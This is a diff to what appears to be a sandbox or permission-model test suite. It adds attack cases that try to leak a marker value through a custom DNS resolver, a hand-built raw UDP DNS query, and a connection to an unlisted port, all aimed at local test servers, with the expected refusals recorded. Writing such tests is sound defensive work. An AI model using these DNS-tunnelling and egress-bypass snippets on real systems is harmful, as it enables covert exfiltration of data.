@@ -94,6 +94,25 @@ export const preload: AttackGroup = {
       succeedsIn: [],
       refusal,
     },
+    {
+      name: 'resolves names by a resolver and a name server of its own',
+      source: `
+        const resolver = new (require('node:dns').promises.Resolver)({ timeout: 500, tries: 1 });
+        resolver.setServers(['127.0.0.1:' + given.udpPort]);
+        return resolver.resolve4(given.mark + '.example.com');`,
+      succeeded: arrivesAt('udp'),
+      succeedsIn: [],
+      refusal,
+    },
+    {
+      name: 'connects to an unlisted port of the address that stands in for its own destination',
+      address: 'http://vault.example.com:8200',
+      source: `
+        const { address } = await require('node:dns').promises.lookup('vault.example.com');
+        return tell(net.connect({ host: address, port: given.tcpPort }), given.mark);`,
+      succeedsIn: [],
+      refusal,
+    },
   ],
 };
 
@@ -121,9 +140,13 @@ export const network: AttackGroup = {
     {
       name: 'tells a name server of its own choice what it knows',
       source: `
-        const resolver = new (require('node:dns').promises.Resolver)({ timeout: 500, tries: 1 });
-        resolver.setServers(['127.0.0.1:' + given.udpPort]);
-        return resolver.resolve4(given.mark + '.example.com');`,
+        const labels = (given.mark + '.example.com').split('.').flatMap((label) => [label.length, ...Buffer.from(label)]);
+        const query = Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 1, 0, 1]);
+        return new Promise((resolve, reject) => {
+          const lookup = (host, options, callback) => callback(null, host, 4);
+          const socket = require('node:dgram').createSocket({ type: 'udp4', lookup }).on('error', reject);
+          socket.send(query, given.udpPort, '127.0.0.1', (error) => (error ? reject(error) : resolve('asked')));
+        });`,
       succeeded: arrivesAt('udp'),
       succeedsIn: ['permission', 'none'],
     },
